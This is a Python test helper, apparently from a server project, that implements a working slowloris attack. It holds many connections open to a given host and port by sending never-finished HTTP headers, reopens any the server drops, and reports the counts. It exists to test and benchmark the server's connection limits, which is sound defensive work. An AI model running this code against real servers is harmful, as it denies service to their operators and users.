"""A slowloris, for tests/test_server_limits.py and bench/slow_headers.py.

    python tests/slowloris.py HOST PORT CONNECTIONS SECONDS

Keeps CONNECTIONS connections open that send a request's headers a few bytes at a time
and never finish them; whenever the server closes one, it opens another. Prints `ready`
once all are open, and at the end one line of JSON: connections opened, and how many the
server closed. It runs as a process of its own so that its work does not slow down the
client that measures the server.
"""

from __future__ import annotations

import asyncio
import json
import resource
import sys


async def attacker(host: str, port: int, stop: asyncio.Event, stats: dict):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(0.2)
            continue
        stats["opened"] += 1
        try:
            writer.write(f"GET / HTTP/1.1\r\nHost: {host}\r\n".encode())
            while not stop.is_set():
                writer.write(b"X-a: b\r\n")  # one more header line, never the blank line
                await writer.drain()
                try:
                    if await asyncio.wait_for(reader.read(1024), 0.5) == b"":
                        break  # the server closed it
                except TimeoutError:
                    continue
            else:
                return
            stats["closed_by_server"] += 1
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            writer.close()
        await asyncio.sleep(1)  # and comes back


async def main(host: str, port: int, connections: int, seconds: float) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, connections + 200), hard))
    stop = asyncio.Event()
    stats = {"opened": 0, "closed_by_server": 0, "refused": 0}
    tasks = [asyncio.create_task(attacker(host, port, stop, stats)) for _ in range(connections)]
    while stats["opened"] < connections:
        await asyncio.sleep(0.05)
    print("ready", flush=True)
    await asyncio.sleep(seconds)
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    host, port, connections, seconds = sys.argv[1:5]
    asyncio.run(main(host, int(port), int(connections), float(seconds)))
